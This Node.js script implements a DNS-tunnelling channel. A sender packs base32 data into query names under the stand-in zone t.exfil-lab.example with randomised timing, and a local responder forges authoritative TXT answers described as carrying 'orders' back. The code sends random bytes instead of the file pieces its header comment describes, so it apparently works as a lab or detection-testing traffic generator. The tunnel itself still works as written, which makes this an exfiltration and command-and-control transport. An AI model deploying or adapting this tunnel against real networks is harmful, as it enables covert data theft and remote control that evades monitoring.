// Data carried out in DNS questions. Usage: node tunnel.mjs serve <port> | node tunnel.mjs send <questions>
// The sender puts pieces of a file into names below t.exfil-lab.example; the name server of that zone answers with TXT records that carry orders back.
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { resolveTxt } from 'node:dns/promises';
import { setTimeout as pause } from 'node:timers/promises';

const zone = 't.exfil-lab.example';
const [role, amount] = process.argv.slice(2);

if (role === 'serve') {
  const socket = createSocket('udp4');
  socket.on('message', (query, client) => {
    const reply = answer(query);
    if (reply) socket.send(reply, client.port, client.address);
  });
  socket.bind(Number(amount), '127.0.0.1');
} else {
  for (let turn = 0; turn < Number(amount); turn++) {
    const piece = base32(randomBytes(28 + Math.floor(Math.random() * 18)));
    const labels = piece.match(/.{1,45}/g).join('.');
    await resolveTxt(`${turn.toString(36).padStart(3, '0')}.${labels}.${zone}`);
    await pause(60 + Math.random() * 160);
  }
}

function base32(bytes) {
  const letters = 'abcdefghijklmnopqrstuvwxyz234567';
  let bits = '';
  for (const byte of bytes) bits += byte.toString(2).padStart(8, '0');
  return bits.replace(/.{1,5}/g, (five) => letters[Number.parseInt(five.padEnd(5, '0'), 2)]);
}

/** Header and question come back as they were asked, followed by one TXT record (RFC 1035) for the question's name. */
function answer(query) {
  let end = 12;
  while (end < query.length && query[end] !== 0) end += query[end] + 1;
  end += 5;
  if (end > query.length) return null;
  const order = Buffer.from(base32(randomBytes(30 + Math.floor(Math.random() * 30))), 'latin1');
  const head = Buffer.from(query.subarray(0, end));
  head.writeUInt16BE(0x8580, 2); // response, authoritative, recursion desired and available
  head.writeUInt16BE(1, 6);
  head.writeUInt32BE(0, 8);
  const record = Buffer.alloc(13);
  record.writeUInt16BE(0xc00c, 0); // the name at offset 12
  record.writeUInt16BE(16, 2); // TXT
  record.writeUInt16BE(1, 4); // IN
  record.writeUInt32BE(0, 6); // never kept
  record.writeUInt16BE(order.length + 1, 10);
  record[12] = order.length;
  return Buffer.concat([head, record, order]);
}
